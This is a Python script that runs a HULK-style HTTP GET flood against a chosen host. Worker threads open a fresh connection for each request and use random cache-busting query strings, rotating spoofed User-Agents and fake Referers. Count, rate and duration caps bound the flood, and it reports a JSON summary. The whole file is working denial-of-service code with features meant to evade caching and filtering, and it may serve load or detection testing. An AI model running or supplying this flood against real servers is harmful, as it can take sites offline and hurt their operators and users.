#!/usr/bin/python3
"""HTTP GET flood in the manner of HULK: a new connection per request, each
asking for a URL nobody asked before, with a random User-Agent and Referer and
no-cache headers. Bounded by --count and --seconds; prints a JSON summary."""
import argparse
import http.client
import json
import random
import string
import threading
import time

ap = argparse.ArgumentParser()
ap.add_argument("--host", required=True)
ap.add_argument("--port", type=int, default=80)
ap.add_argument("--count", type=int, required=True)
ap.add_argument("--rate", type=float, required=True, help="requests per second, all threads")
ap.add_argument("--threads", type=int, default=8)
ap.add_argument("--seconds", type=float, required=True)
ap.add_argument("--seed", type=int, default=0)
a = ap.parse_args()

AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
          "Mozilla/5.0 (X11; Ubuntu; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0 Safari/537.36",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
          "Opera/9.80 (X11; Linux i686) Presto/2.12.388 Version/12.16",
          "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"]
PATHS = ["/", "/index.html", "/app/search", "/app/api/items", "/news.html"]
lock = threading.Lock()
done = {"sent": 0, "ok": 0, "failed": 0}
end = time.time() + a.seconds


def word(rng, lo, hi):
    return "".join(rng.choice(string.ascii_letters) for _ in range(rng.randint(lo, hi)))


def worker(i):
    rng = random.Random(a.seed * 1000 + i)
    gap = a.threads / a.rate
    while time.time() < end:
        with lock:
            if done["sent"] >= a.count:
                return
            done["sent"] += 1
        query = "&".join(f"{word(rng, 2, 6)}={word(rng, 3, 12)}" for _ in range(rng.randint(1, 3)))
        headers = {"User-Agent": rng.choice(AGENTS), "Cache-Control": "no-cache", "Pragma": "no-cache",
                   "Referer": f"http://{word(rng, 4, 9)}.example/?q={word(rng, 3, 10)}",
                   "Connection": "close"}
        t0 = time.time()
        try:
            c = http.client.HTTPConnection(a.host, a.port, timeout=5)
            c.request("GET", f"{rng.choice(PATHS)}?{query}", headers=headers)
            c.getresponse().read()
            c.close()
            with lock:
                done["ok"] += 1
        except OSError:
            with lock:
                done["failed"] += 1
        time.sleep(max(0.0, gap - (time.time() - t0)))


ts = [threading.Thread(target=worker, args=(i,)) for i in range(a.threads)]
for t in ts:
    t.start()
for t in ts:
    t.join()
print(json.dumps(done))
